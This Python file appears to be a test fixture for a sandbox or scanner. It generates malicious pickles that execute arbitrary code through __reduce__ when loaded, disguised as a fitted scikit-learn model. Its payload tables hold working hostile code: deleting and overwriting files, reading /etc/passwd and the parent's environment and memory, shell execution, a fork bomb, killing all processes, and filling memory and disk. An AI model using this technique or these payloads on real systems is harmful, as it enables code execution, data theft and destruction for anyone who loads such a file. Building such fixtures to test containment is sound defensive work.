"""Pickles that do harm when they are opened, each in its own way: code that nothing judged.

Every one leaves a mark in a folder beside if it gets through, or hangs, or eats the machine.
"""

import os
import pickle

import numpy as np
from sklearn.linear_model import LogisticRegression

HEAD = (
    "import os, sys, socket, subprocess, threading, signal, time, ctypes, mmap, shutil, tempfile\n"
    "mark = {mark!r}; secret = {secret!r}; port = {port}; parent = {parent}\n"
    "def note(text=''):\n"
    "    open(mark + '/mark', 'a').write(str(text))\n"
)

WRITES = {
    "write": "note()",
    "write by descriptor": "os.write(os.open(mark + '/mark', os.O_CREAT | os.O_WRONLY), b'x')",
    "make a folder": "os.mkdir(mark + '/mark')",
    "symbolic link": "os.symlink('/etc/passwd', mark + '/mark')",
    "hard link": "os.link(secret, mark + '/mark')",
    "named pipe": "os.mkfifo(mark + '/mark')",
    "copy": "shutil.copy(secret, mark + '/mark')",
    "move": "shutil.move(secret, mark + '/mark')",
    "remove": "os.remove(secret)",
    "write over": "open(secret, 'w').write('x')",
    "cut off": "os.truncate(secret, 0)",
    "make public": "os.chmod(secret, 0o777)",
    "touch": "os.utime(secret)",
    "mark by attribute": "os.setxattr(secret, 'user.mark', b'x')",
    "by a thread": "t = threading.Thread(target=note); t.start(); t.join()",
    "by the C library": "ctypes.CDLL(None).creat((mark + '/mark').encode(), 0o644)",
    "by a temporary name": "tempfile.mkstemp(dir=mark)",
    "to shared memory": "open('/dev/shm/xplain-mark', 'w').write('x')",
    "from its folder out": "os.rename(tempfile.mkstemp()[1], mark + '/mark')",
}
READS = {
    "read a secret": "note(open(secret).read()) if open(secret).read() else None",
    "map a secret": "note(mmap.mmap(os.open(secret, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:6])",
    "list a folder": "note(os.listdir(os.path.dirname(secret)))",
    "read accounts": "note(open('/etc/passwd').read())",
    "environment of the parent": "note(open(f'/proc/{os.getppid()}/environ', 'rb').read())",
    "memory of the parent": "note(open(f'/proc/{parent}/mem', 'rb').read(1))",
}
REACHES = {
    "run a program": "subprocess.run(['touch', mark + '/mark'])",
    "run a shell": "os.system('touch ' + mark + '/mark')",
    "become a program": "os.execv('/bin/touch', ['touch', mark + '/mark'])",
    "spawn": "os.posix_spawn('/usr/bin/touch', ['touch', mark + '/mark'], {{}})",
    "run Python": "subprocess.run([sys.executable, '-c', f'open({{mark!r}} + \"/mark\", \"w\")'])",
    "fork": "os.fork() or note()",
    "fork bomb": "[os.fork() for _ in range(10000)]",
    "connect": "socket.create_connection(('127.0.0.1', port), 2).sendall(b'mark')",
    "send a packet": "socket.socket(2, 2).sendto(b'mark', ('127.0.0.1', port))",
    "connect by the C library": "ctypes.CDLL(None).socket(2, 1, 0) >= 0 and note()",
    "signal the tool": "os.kill(parent, signal.SIGTERM)",
    "signal the template": "os.kill(os.getppid(), signal.SIGKILL)",
    "signal all": "os.kill(-1, signal.SIGKILL)",
    "trace the tool": "ctypes.CDLL(None).ptrace(16, parent, 0, 0) == 0 and note()",
    "limit the tool": "__import__('resource').prlimit(parent, 7, (0, 0)) and note()",
    "own a namespace": "ctypes.CDLL(None).unshare(0x10000000) == 0 and note()",
}
ENDS = {
    "exit": "sys.exit(0)",
    "exit at once": "os._exit(0)",
    "abort": "os.abort()",
    "crash": "ctypes.string_at(0)",
    "kill itself": "os.kill(os.getpid(), signal.SIGKILL)",
    "fill memory": "x = [bytearray(1 << 28) for _ in range(10000)]",
    "fill memory by mapping": "x = mmap.mmap(-1, 1 << 44)",
    "hang": "time.sleep(1000)",
    "hang and hold": "while True: pass",
    "say what is no answer": "[os.write(n, b'x' * 100) for n in range(3, 64) if _is_open(n)]",
    "end the pipe": "os.closerange(3, 64)",
    "interrupt": "raise KeyboardInterrupt",
}
FILLS = {
    "fill the folder": (
        "for i in range(64):\n"
        "    open(tempfile.gettempdir() + f'/{{i}}', 'wb').write(bytes(1 << 25)); time.sleep(.05)"
    ),
    "one large file": (
        "f = open(tempfile.gettempdir() + '/large', 'wb')\n"
        "while True: f.write(bytes(1 << 24)); f.flush(); time.sleep(.05)"
    ),
}
PAYLOADS = {**WRITES, **READS, **REACHES, **ENDS, **FILLS}
"""What each does, as code; ``mark``, ``secret``, ``port`` and ``parent`` are known to it."""

_IS_OPEN = (
    "def _is_open(n):\n"
    "    try:\n        os.fstat(n)\n    except OSError:\n        return False\n    return True\n"
)


class Harmful:
    """Runs a text when it is unpickled, and is a fitted model then, if it still can."""

    def __init__(self, code, model):
        self.code, self.model = code, model

    def __reduce__(self):
        return eval, (  # noqa: S307 - it is what such files do
            "[exec(code, {}), model][1]",
            {"code": self.code, "model": self.model},
        )


def harmful_pickle(path, name, *, mark, secret, port):
    """Write a pickle that does what the payload of that name does; return its path."""
    stream = np.random.default_rng(0)
    X = stream.normal(size=(40, 3))
    model = LogisticRegression().fit(X, X[:, 0] > 0)
    values = {"mark": str(mark), "secret": str(secret), "port": port, "parent": os.getpid()}
    code = HEAD.format(**values) + _IS_OPEN + PAYLOADS[name].replace("{{", "{").replace("}}", "}")
    path.write_bytes(pickle.dumps(Harmful(code, model)))
    return path
